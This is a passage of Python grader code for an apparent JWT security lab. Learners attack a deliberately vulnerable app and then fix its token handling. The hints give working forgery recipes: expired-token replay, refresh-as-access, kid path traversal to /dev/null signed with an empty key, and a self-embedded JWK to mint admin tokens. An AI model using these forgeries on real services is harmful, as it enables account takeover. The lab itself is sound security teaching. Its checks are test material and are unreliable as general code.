    title="Replay an expired token found in a log",
    kind="attack",
    hints=(
        "lab.client.get('/api/_lab/token-log') shows Authorization headers from two days ago.",
        "jwt.decode(token, options={'verify_signature': False}) shows its exp: long past. "
        "Send it anyway.",
        "Hand in the token (without 'Bearer ').",
    ),
    answer_help="a genuinely signed token whose exp has passed",
)
def expired_token(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        exp = claims.get("exp")
        if not isinstance(exp, (int, float)) or exp > time.time() - 60:
            return f"that token has not expired (exp {exp})"
        if signed not in GENUINE:
            return f"use a token the app really signed (signature: {signed})"
        return None

    return _judge_token(
        ctx, route=ME, rule=rule, won="an expired token still works: exp is never checked",
        lost="no expired token accepted yet",
    )  # fmt: skip


@LAB.check(
    "no-exp",
    title="Use a token that never expires",
    kind="attack",
    hints=(
        "One token in the log has no exp claim at all.",
        "A token without exp is valid forever unless the verifier requires the claim.",
        "Hand in that token.",
    ),
    answer_help="a genuinely signed token without an exp claim",
)
def no_exp(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if "exp" in claims:
            return "that token has an exp claim"
        if signed not in GENUINE:
            return f"use a token the app really signed (signature: {signed})"
        return None

    return _judge_token(
        ctx, route=ME, rule=rule, won="a token without exp is accepted: it never expires",
        lost="no exp-less token accepted yet",
    )  # fmt: skip


@LAB.check(
    "refresh-as-access",
    title="Use your refresh token as an access token",
    kind="attack",
    hints=(
        "The refresh token is in the refreshToken cookie of your login response.",
        "Send it as 'Authorization: Bearer <refresh token>' to /api/me.",
        "Hand in the refresh token.",
    ),
    answer_help="your refresh token",
)
def refresh_as_access(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if signed != "refresh secret" or "tokenVersion" not in claims or "role" in claims:
            return "that is not a refresh token issued by the app"
        return None

    return _judge_token(
        ctx, route=ME, rule=rule, won="a 7-day refresh token works as a 15-minute access token",
        lost="the refresh token was not accepted as an access token",
    )  # fmt: skip


@LAB.check(
    "kid-injection",
    title="Point the kid at /dev/null and sign with an empty key",
    kind="attack",
    hints=(
        "The app reads the key from a file named by the kid header, in its key directory; "
        "the kid is yours to write.",
        "'../' climbs out of it: '../../../../../../../../dev/null' holds zero bytes, so the "
        "HMAC key is b'': sign f'{header}.{claims}' with hmac.new(b'', ..., hashlib.sha256).",
        "Ready-made: labkit.attacks.jwt.forge({'alg': 'HS256', 'kid': "
        "'../../../../../../../../dev/null'}, admin_claims, b'').",
    ),
    answer_help="an admin token whose kid traverses to /dev/null, signed with b''",
)
def kid_injection(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if ".." not in str(header.get("kid", "")):
            return "the kid must climb out of the key directory ('../')"
        if signed != "empty key":
            return f"sign the token with the empty key b'' (signature: {signed})"
        return _is_admin(claims)

    return _judge_token(
        ctx, route=ADMIN, rule=rule, won="the kid chose the key: an empty file signed your token",
        lost="no kid-injection token got in yet",
    )  # fmt: skip


@LAB.check(
    "embedded-jwk",
    title="Bring your own key in the jwk header",
    kind="attack",
    hints=(
        "A verifier that trusts the header's jwk checks the token with the key the token "
        "carries: bring your own key pair.",
        "key = rsa.generate_private_key(public_exponent=65537, key_size=2048); "
        "json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key())) is its public "
        "JWK; jwt.encode(admin_claims, key, algorithm='RS256', headers={'jwk': ...}).",
        "Ready-made: key = labkit.attacks.jwt.new_rsa_key(); labkit.attacks.jwt.forge("
        "{'alg': 'RS256', 'jwk': labkit.attacks.jwt.rsa_jwk(key)}, admin_claims, key).",
    ),
    answer_help="an admin RS256 token signed with your own key, its public JWK in the header",
)
def embedded_jwk(ctx: CheckContext) -> Verdict:
    def rule(header: dict[str, Any], claims: dict[str, Any], signed: str | None) -> str | None:
        if "jku" in header and header.get("alg") == "RS256":
            return _is_admin(claims)
        if signed != "embedded jwk":
            return f"sign with the private half of the header's jwk (signature: {signed})"
        return _is_admin(claims)

    return _judge_token(
        ctx, route=ADMIN, rule=rule, won="the token verified itself with the key it carried",
        lost="no token with its own key got in yet",
    )  # fmt: skip


@LAB.check(
    "refresh-after-logout",
    title="Refresh after logout",
    kind="attack",
    hints=(
        "Log in, keep the refresh token, then POST /api/auth/logout with the access token.",
        "Now POST /api/auth/refresh with headers={'Cookie': f'refreshToken={refresh}'}.",
        "Hand in the refresh token you used after logging out.",
    ),
    answer_help="a refresh token of a session that logged out",
)
def refresh_after_logout(ctx: CheckContext) -> Verdict:
    token = _token_answer(ctx.answer)
    if token is None:
        return Verdict(False, f"expected a refresh token string, got {ctx.answer!r:.60}")
    claims = (_claims(token) or ({}, {}))[1]
    with ctx.target.client() as client:
        if _inspect(client, token).get("signedWith") != "refresh secret":
            return Verdict(False, "that is not a refresh token issued by the app")
        logouts = [
            e for e in client.get("/api/_lab/audit").json()
            if e["sub"] == str(claims.get("sub")) and e["at"] >= claims.get("iat", 0)
        ]  # fmt: skip
        if not logouts:
            return Verdict(False, "that user has not logged out since this token was issued")
        response = _refresh(client, token)
    if response.status_code != 200:
        return Verdict(False, f"the refresh was refused ({response.status_code})")
    return Verdict(
        True,
        "logout revoked nothing: the refresh token still mints access tokens",
        ("POST /api/auth/refresh answered 200 after the logout",),
    )


# -- fix checks ----------------------------------------------------------------------------
Battery = Callable[[httpx.Client, Findings, random.Random], None]


def _forgeries(answer: Any) -> list[tuple[str, str]]:
    """The learner's own tokens from the Attack cells, as ``(label, token)``.

    ``answer`` is a dict ``{label: token or list of tokens}`` (or a plain list); anything that
    is not a JWT (an attack not done yet: ``None``) is skipped.
    """
    items = answer.items() if isinstance(answer, dict) else enumerate(answer or (), 1)
    found: list[tuple[str, str]] = []
    for label, value in items:
        for token in value if isinstance(value, (list, tuple)) else (value,):
            if (text := _token_answer(token)) is not None:
                found.append((str(label), text))
    return found


def replay_forgeries(client: httpx.Client, findings: Findings, answer: Any) -> None:
    """Send the learner's own forged tokens to their fixed app: every one must be refused."""
    forgeries = _forgeries(answer)
    if not forgeries:
        return
    with findings.section("your own attacks", "your forged tokens are now refused"):
        for label, token in forgeries:
            for route in (ADMIN, ME):
                response = client.get(route, headers=_bearer(token))
                if response.status_code != 401:
                    findings.fail(
                        f"your token from {label} still gets {response.status_code} on {route}"
                        f"{_fault(response)}",
                        rule="signature",
                    )
                    break
        findings.saw(f"replayed {len(forgeries)} token(s) of yours from the Attack cells")


def _cookie(client: httpx.Client, findings: Findings, rng: random.Random) -> None:
    cookie_battery(client, findings)


def _run(ctx: CheckContext, battery: Battery) -> Findings:
    findings = Findings()
    with ctx.require_patched().client() as client:
        battery(client, findings, ctx.rng)
    return findings


@LAB.check(
    "cookie",
    title="The refresh cookie: HttpOnly, Secure, SameSite=Strict, one path, 7 days",
    kind="fix",
    fixes=("refresh_cookie",),
    rules=COOKIE_RULES,
    hints=(
        "Return one string: 'refreshToken=<token>; attribute; attribute; ...'.",
        "HttpOnly (no script), Secure (HTTPS only), SameSite=Strict (no cross-site sends).",
        "Path=/api/auth/refresh and Max-Age=604800 (seven days, in seconds).",
    ),
)
def cookie(ctx: CheckContext) -> Verdict:
    findings = Findings()  # no generated input: the cookie is judged as it is
    with ctx.require_patched().client() as client:
        cookie_battery(client, findings)
    return findings.verdict(
        "the refresh cookie is out of reach of scripts and other sites", "the cookie is not right"
    )


@LAB.check(
    "tokens",
    title="Issue and verify tokens: every forgery refused",
    kind="fix",
    fixes=("issue_tokens", "verify_token"),
    rules=TOKENS_RULES,
    hints=(
        "jwt.decode_complete(token, keys[typ], algorithms=['HS256'], ...): never read alg "
        "from the token.",
        "options={'require': ['exp', 'iat', 'sub', 'iss', 'aud']}, audience=keys['audience'], "
        "issuer=keys['issuer'], leeway=30.",
        "Compare decoded['header']['typ'] with 'at+jwt' / 'refresh+jwt', and exp - iat with "
        "the type's lifetime; raise jwt.InvalidTokenError when either is wrong.",
    ),
)
def tokens(ctx: CheckContext) -> Verdict:
    findings = _run(ctx, attack_battery)
    with ctx.require_patched().client() as client:
        replay_forgeries(client, findings, ctx.answer)
    return findings.verdict(
        "every forged, expired and misused token is refused", "some tokens still get in"
    )


@LAB.check(
    "revocation",
    title="Logout revokes; refresh tokens rotate and reuse kills the family",
    kind="fix",
    fixes=("issue_tokens", "verify_token", "check_not_revoked", "logout"),
    rules=REVOCATION_RULES,
    hints=(
        "Compare claims['ver'] with ledger.token_version(claims['sub']); logout calls "
        "ledger.revoke_all(claims['sub']).",
        "Refresh tokens carry jti and fam: ledger.use_once(jti) is False the second time.",
        "On reuse: ledger.revoke_family(fam), then raise; also refuse when "
        "ledger.family_revoked(fam).",
    ),
)
def revocation(ctx: CheckContext) -> Verdict:
    return _run(ctx, lifecycle_battery).verdict(
        "logout and rotation revoke what they must", "revoked tokens still work"
    )


BATTERIES: dict[str, Battery] = {
    "refresh cookie": _cookie,
    "token attacks": attack_battery,
    "logout and rotation": lifecycle_battery,
}


@LAB.check(
    "verify",
    title="Replay every attack of this lab against your fixed app",
    kind="fix",
    fixes=("issue_tokens", "verify_token", "check_not_revoked", "logout", "refresh_cookie"),
    rules=merge_rules(COOKIE_RULES, TOKENS_RULES, REVOCATION_RULES),
    points=2,
    hints=(
        "Pass all five functions: together they are the app's token handling.",
        "Each battery names what got through; fix that function and run the cell again.",
    ),
)
def verify(ctx: CheckContext) -> Verdict:
    findings = Findings()
    with ctx.require_patched().client() as client:
        for name, battery in BATTERIES.items():
            with findings.section(name):
                battery(client, findings, ctx.rng)
        replay_forgeries(client, findings, ctx.answer)
    return findings.verdict(
        "every token attack fails and legitimate use works", "some attacks still get through"
    )
